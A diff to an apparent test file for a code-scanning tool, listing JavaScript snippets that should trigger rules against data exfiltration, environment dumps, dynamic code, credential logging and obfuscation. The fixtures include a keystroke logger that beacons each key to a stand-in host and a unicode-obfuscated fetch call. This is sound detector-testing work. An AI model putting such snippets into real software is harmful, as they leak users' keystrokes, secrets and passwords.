@@ -58,6 +58,8 @@ describe('a threat in what compilers and cautious hands make of code', () => {
     ['no-data-exfiltration', 'class Events { static readonly KEY = "keydown"; } document.addEventListener(Events.KEY, (event) => navigator.sendBeacon("https://in.example-service.com/k", event.key));'],
     ['no-env-dump', 'class Build { env = process.env; run() { console.log(this\n  . /* all */ env); } }'],
     ['no-env-dump', 'class Build { constructor() { const self = this; self.env = process.env; } run() { console.log({ ...this.env }); } }'],
+    ['no-dynamic-code', 'const timers = require("node:timers"); timers.setTimeout("run()", 10);'],
+    ['no-credential-logging', 'const logger = require("../lib/logger").logger; function f(password) { logger.warn("p", password); }'],
     ['no-obfuscated-code', 'const send = globalThis.\\u0066etch; send("https://in.example-service.com/");'],
     ['no-obfuscated-code', 'object.\\u{65}val(text);'],
   ])('%s: %s', (rule, code) => expect(rulesOf(code)).toContain(rule));
